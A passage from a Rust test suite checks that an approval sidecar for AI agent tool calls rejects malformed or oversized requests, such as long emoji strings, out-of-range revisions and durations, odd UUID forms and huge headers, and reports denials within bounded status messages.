        arguments_json: format!("{{\"{}\":[}}", "\u{1F600}".repeat(5_000)),
        objective: Some(Objective { transcript: bad(), id: bad(), revision: u64::MAX }),
        tool_definition_digest: bad(),
        labels: (0..16).map(|index| (format!("{}{index}", bad()), bad())).collect(),
    };
    let request = RequestApprovalRequest {
        request_id: bad(),
        invocation: Some(invocation),
        retry_of: bad(),
        agent_note: "x".repeat(501),
        decide_within: span(-1, 0),
    };
    let status = sidecar.request_as("runtime", request).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    proper(&status, "wrong all over");
    assert_eq!(
        wrong_fields(&status),
        [
            "invocation.principal",
            "invocation.agent",
            "invocation.conversation",
            "invocation.connector",
            "invocation.account",
            "invocation.connection",
            "invocation.action",
            "invocation.objective.transcript",
        ],
        "the first eight, in the order of the fields"
    );
    assert!(status.message().contains("more)"), "{}", status.message());
}

#[tokio::test]
async fn a_denial_by_many_rules_of_long_names_is_told_within_what_a_status_may_carry() {
    let rules: String = (0..60)
        .map(|index| format!("      - {{ name: \"{index}{}\", effect: deny }}\n", "\u{1F600}".repeat(60)))
        .collect();
    let policy = format!(
        "version: countersign.policy/v1\nconnectors:\n  gmail:\n    ceiling: admin\n    unlisted: admin\n    rules:\n{rules}"
    );
    let sidecar = Sidecar::under(&policy).await;
    let long = Invocation { action: "\u{a0}".repeat(100) + "a", ..email() };
    let long = Invocation { action: format!("a{}", long.action), ..long };
    for invocation in [email(), long] {
        let status = refused(sidecar.request(invocation).await, Code::PermissionDenied, "POLICY_DENIED");
        proper(&status, "many rules");
        let (named, left_out) = (told(&status, "rules"), told(&status, "rules_left_out"));
        assert!(named.starts_with("0\u{1F600}"), "the first in the policy's order");
        assert_eq!(named.split(',').count() + left_out.parse::<usize>().unwrap(), 60);
    }
}

#[tokio::test]
async fn revisions_and_spans_are_taken_to_their_bounds_and_no_further() {
    let sidecar = Sidecar::start().await;
    let most = (1_u64 << 53) - 1;
    let with = |revision: u64| Invocation {
        objective: Some(Objective { transcript: "t1".to_owned(), id: "input-1".to_owned(), revision }),
        ..email()
    };
    let mut fingerprints = HashSet::new();
    for revision in [0, 1, most - 1, most] {
        let approval = sidecar.request(with(revision)).await.unwrap().approval.unwrap();
        assert_eq!(approval.objective.unwrap().revision, revision);
        assert!(fingerprints.insert(approval.fingerprint));
    }
    for revision in [most + 1, u64::MAX] {
        wrong(sidecar.evaluate(with(revision)).await, "invocation.objective.revision");
    }
    // All three together, or none.
    let status = sidecar.evaluate(Invocation { objective: Some(Objective::default()), ..email() }).await.unwrap_err();
    assert_eq!(wrong_fields(&status), ["invocation.objective.transcript", "invocation.objective.id"]);

    let permit = sidecar.consume("", fetch()).await.unwrap().permit.unwrap();
    let took = |seconds: i64, nanos: i32| ReportOutcomeRequest {
        execution_id: permit.execution_id.clone(),
        duration: span(seconds, nanos),
        ..report()
    };
    for (seconds, nanos) in
        [(-1, 0), (0, -1), (86_400, 1), (86_401, 0), (1, 1_000_000_000), (i64::MAX, 0), (i64::MIN, 0), (0, i32::MIN)]
    {
        wrong(sidecar.agent().report_outcome(took(seconds, nanos)).await, "duration");
    }
    let reported = sidecar.agent().report_outcome(took(86_400, 0)).await.unwrap().into_inner().execution.unwrap();
    assert_eq!(reported.duration, span(86_400, 0));
}

#[tokio::test]
async fn one_id_is_one_id_in_either_case_and_in_no_other_form() {
    let sidecar = Sidecar::start().await;
    let attempt = "0190b6c0-0000-7000-8000-00000000000a";
    let first = sidecar.attempt("", attempt, fetch()).await.unwrap();
    let upper = sidecar.attempt("", &attempt.to_uppercase(), fetch()).await.unwrap();
    assert!(upper.replayed);
    assert_eq!(upper.permit, first.permit);
    let plain = attempt.replace('-', "");
    let forms = [plain.as_str(), &format!("{{{attempt}}}"), &format!("urn:uuid:{attempt}"), &format!(" {attempt}")];
    for form in
        forms.into_iter().chain(["00000000-0000-0000-0000-000000000000", "0190b6c0-0000-7000-8000-00000000000g"])
    {
        wrong(sidecar.attempt("", form, fetch()).await, "attempt_id");
    }
    let (approval, _) = sidecar.ask(email()).await;
    let shouted = Approval { id: approval.id.to_uppercase(), ..approval.clone() };
    assert_eq!(sidecar.read(&shouted).await, approval);
    assert_eq!(sidecar.decide("olga", &shouted.id, Verdict::Approve).await.unwrap().id, approval.id);
}

#[tokio::test]
async fn headers_that_are_too_large_are_refused_and_the_connection_serves_on() {
    let sidecar = Sidecar::start().await;
    let mut agent = sidecar.agent();
    let evaluate = || EvaluateRequest { invocation: Some(email()), explain: false };
    agent.evaluate(evaluate()).await.unwrap();
    for bytes in [20_000, 60_000] {
        let mut request = tonic::Request::new(evaluate());
        request.metadata_mut().insert("x-large", "x".repeat(bytes).parse().unwrap());
        assert!(agent.evaluate(request).await.is_err(), "{bytes}");
        agent.evaluate(evaluate()).await.unwrap();
    }
    sidecar.still_tells_the_story().await;
}
